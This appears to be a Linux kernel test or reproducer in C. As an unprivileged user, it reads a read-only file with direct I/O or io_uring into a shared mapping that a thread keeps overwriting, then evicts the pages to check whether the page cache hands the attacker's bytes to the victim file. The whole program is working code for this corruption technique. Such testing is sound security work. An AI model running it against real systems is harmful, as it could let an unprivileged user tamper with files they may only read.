// SPDX-License-Identifier: GPL-2.0
/*
 * poison direct|aio|fixed VICTIM MINE: as an unprivileged user, reads VICTIM, which it may only read, with direct I/O into a
 * shared mapping of its own file MINE, while a thread stores to that mapping; then has MINE's pages dropped from the page
 * cache. A cache that takes such pages for VICTIM's gives them to whoever reads VICTIM next. "aio" reads through io_uring,
 * "fixed" into a buffer that is registered there. Exit status 77: the kernel refuses that buffer.
 */
#include <errno.h>
#include <error.h>
#include <fcntl.h>
#include <grp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <liburing.h>

#define LEN (64 * 4096)
#define NOBODY 65534
#define REFUSED 77

static char *map;
static atomic_bool stop;
static atomic_uint stores;

static void *store(void *unused)
{
	while (!stop) {
		memset(map, 'X', LEN);
		stores++;
	}
	return unused;
}

static int open_file(const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC, 0600);

	if (fd < 0)
		error(1, errno, "%s", path);
	return fd;
}

static void read_by_ring(int fd, bool fixed)
{
	struct iovec buffer = { map, LEN };
	struct io_uring_cqe *cqe;
	struct io_uring_sqe *sqe;
	struct io_uring ring;
	int err = io_uring_queue_init(4, &ring, 0);

	if (err || (fixed && io_uring_register_buffers(&ring, &buffer, 1)))
		_exit(REFUSED);
	sqe = io_uring_get_sqe(&ring);
	if (fixed)
		io_uring_prep_read_fixed(sqe, fd, map, LEN, 0, 0);
	else
		io_uring_prep_read(sqe, fd, map, LEN, 0);
	if (io_uring_submit(&ring) != 1 || io_uring_wait_cqe(&ring, &cqe) || cqe->res != LEN)
		error(1, 0, "read by io_uring");
	io_uring_queue_exit(&ring);
}

static void read_direct(int fd, const char *how)
{
	if (strcmp(how, "direct") != 0)
		read_by_ring(fd, !strcmp(how, "fixed"));
	else if (pread(fd, map, LEN, 0) != LEN)
		error(1, errno, "direct read");
}

int main(int argc, char **argv)
{
	static char zero[LEN];
	int direct, victim, mine;
	unsigned int before;
	pthread_t thread;

	if (argc != 4)
		error(2, 0, "usage: poison direct|aio|fixed VICTIM MINE");
	if (setgroups(0, NULL) || setgid(NOBODY) || setuid(NOBODY))
		error(1, errno, "setuid");
	direct = open_file(argv[2], O_RDONLY | O_DIRECT);
	victim = open_file(argv[2], O_RDONLY);
	mine = open_file(argv[3], O_RDWR | O_CREAT);
	if (open(argv[2], O_RDWR) >= 0)
		error(1, 0, "%s is writable, so nothing is shown", argv[2]);
	if (pwrite(mine, zero, LEN, 0) != LEN || fsync(mine))
		error(1, errno, "%s", argv[3]);
	map = mmap(NULL, LEN, PROT_READ | PROT_WRITE, MAP_SHARED, mine, 0);
	if (map == MAP_FAILED)
		error(1, errno, "mmap");
	posix_fadvise(victim, 0, 0, POSIX_FADV_DONTNEED);
	read_direct(direct, argv[1]); /* takes out of a store what is there */
	errno = pthread_create(&thread, NULL, store, NULL);
	if (errno)
		error(1, errno, "thread");
	while (!stores)
		;
	read_direct(direct, argv[1]);
	/* The mapping is the user's bytes all over once more before its pages go. */
	for (before = stores; stores < before + 2;)
		;
	stop = true;
	pthread_join(thread, NULL);
	if (msync(map, LEN, MS_SYNC) || munmap(map, LEN) || fsync(mine))
		error(1, errno, "%s", argv[3]);
	posix_fadvise(mine, 0, 0, POSIX_FADV_DONTNEED);
	return 0;
}
